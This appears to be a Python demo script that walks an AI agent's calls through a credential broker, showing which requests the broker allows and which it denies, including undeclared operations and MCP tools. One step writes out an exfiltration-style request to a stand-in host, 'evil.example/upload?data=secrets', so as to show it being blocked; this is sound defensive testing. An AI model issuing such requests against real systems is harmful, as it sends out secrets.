"""The tour's steps: for each, the call, the decision, and what the tool saw."""

import json
import ssl
import urllib.error
import urllib.request
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

import anyio
import httpx2
from mcp import Client
from mcp.client.streamable_http import streamable_http_client

from broker.demo.tools import Payments, Seen, Wiki

AGENT = "refund-bot"


@dataclass(frozen=True, slots=True)
class Place:
    """The running broker, as the agent's environment describes it."""

    proxy: str
    base_url: str
    ca: str
    token: str
    last_code: Callable[[], str]
    """The code of the newest denial in the record."""


class Surprise(Exception):
    """A step did not go as it should."""


class Tour:
    """Walks the steps. `say` prints a line."""

    def __init__(self, place: Place, payments: Payments, wiki: Wiki, say: Callable[[str], None]) -> None:
        self._place = place
        self._payments = payments
        self._wiki = wiki
        self._say = say
        proxy = f"http://{AGENT}:{place.token}@{place.proxy}"
        context = ssl.create_default_context(cafile=place.ca)
        self._http = urllib.request.build_opener(
            urllib.request.ProxyHandler({"https": proxy, "http": proxy}), urllib.request.HTTPSHandler(context=context)
        )

    def walk(self) -> None:
        """Every step, in order. Raises `Surprise`."""
        api = f"https://localhost:{self._payments.port}"
        self._say("An agent's environment holds HTTPS_PROXY and SSL_CERT_FILE. It holds no key of any tool.")
        self._step(
            "1. A call within the manifest", "POST", f"{api}/v1/refunds", {"charge": "ch_1", "amount": 1200}, expect="allow"
        )
        self._step(
            "2. A parameter out of bounds",
            "POST",
            f"{api}/v1/refunds",
            {"charge": "ch_1", "amount": 99000},
            expect="params_invalid",
        )
        self._step(
            "3. An operation that the manifest does not list", "DELETE", f"{api}/v1/charges/ch_1", expect="operation_not_declared"
        )
        self._step(
            "4. A host that nobody declared", "GET", "https://evil.example/upload?data=secrets", expect="host_not_declared"
        )
        anyio.run(self._mcp)

    def _step(self, title: str, method: str, url: str, body: Any = None, *, expect: str) -> None:
        self._payments.seen.clear()
        self._say(f"\n{title}")
        self._say(f"  call      {method} {url}" + (f" {json.dumps(body)}" if body else ""))
        verdict, words = self._send(method, url, body)
        self._say(f"  decision  {words}")
        self._tell(self._payments.seen)
        if verdict != expect or bool(self._payments.seen) != (expect == "allow"):
            raise Surprise(f"{title}: expected {expect}, got {verdict}")

    def _send(self, method: str, url: str, body: Any) -> tuple[str, str]:
        data = json.dumps(body).encode() if body else None
        request = urllib.request.Request(url, data, {"content-type": "application/json"}, method=method)  # noqa: S310 - our own
        try:
            with self._http.open(request, timeout=10) as answer:
                return "allow", f"allow (HTTP {answer.status})"
        except urllib.error.HTTPError as error:
            with error:
                problem = json.loads(error.read())
            pointers = "".join(f"\n            at {each['pointer']}, by {each['rule']}" for each in problem["violations"])
            return problem["code"], f"deny {problem['code']}: {problem['detail']} (HTTP {error.code}){pointers}"
        except urllib.error.URLError as error:
            # A client shows only the status of a refused CONNECT; why is in the record.
            code = self._place.last_code() if "Tunnel connection failed: 403" in str(error.reason) else "failed"
            return code, f"deny {code}: the agent sees {str(error.reason)!r}"

    def _tell(self, seen: list[Seen]) -> None:
        for each in seen:
            self._say(f"  upstream  {each.request}")
            self._say(f"            authorization: {_shortened(each.authorization)}  (the agent never held it)")
        if not seen:
            self._say("  upstream  saw nothing")

    async def _mcp(self) -> None:
        headers = {"x-broker-token": self._place.token}
        async with httpx2.AsyncClient(headers=headers) as http:
            transport = streamable_http_client(f"http://{self._place.base_url}/wiki", http_client=http)
            async with Client(transport) as client:
                listed = [tool.name for tool in (await client.list_tools()).tools]
                self._say("\n5. An MCP server with two tools, of which the manifest lists one")
                self._say(f"  call      tools/list\n  decision  allow, shows {listed}")
                self._expect(listed == ["search_pages"], f"tools/list shows {listed}")
                await self._call(client, "6. The tool that it lists", "search_pages", {"query": "refunds"}, denied=False)
                await self._call(client, "7. The one that it does not", "delete_page", {"page": "home"}, denied=True)
                await self._call(client, "8. The session goes on", "search_pages", {"query": "fees"}, denied=False)

    async def _call(self, client: Client, title: str, name: str, arguments: dict[str, Any], *, denied: bool) -> None:
        self._wiki.seen.clear()
        result = await client.call_tool(name, arguments)
        text = getattr(result.content[0], "text", "")
        self._say(f"\n{title}\n  call      tools/call {name} {json.dumps(arguments)}")
        problem = json.loads(text) if result.is_error else {}
        self._say(
            f"  decision  deny {problem['code']}: {problem['detail']}" if problem else f"  decision  allow, answers {text!r}"
        )
        self._tell([Seen(f"tools/call {name}", seen.authorization) for seen in self._wiki.seen if "tools/call" in seen.request])
        self._expect(
            result.is_error is denied and any("tools/call" in seen.request for seen in self._wiki.seen) is not denied, title
        )

    def _expect(self, true: object, what: str) -> None:
        if not true:
            raise Surprise(what)


def _shortened(value: str) -> str:
    return value if len(value) <= 40 else f"{value[:28]}…"  # noqa: PLR2004 - a terminal's line
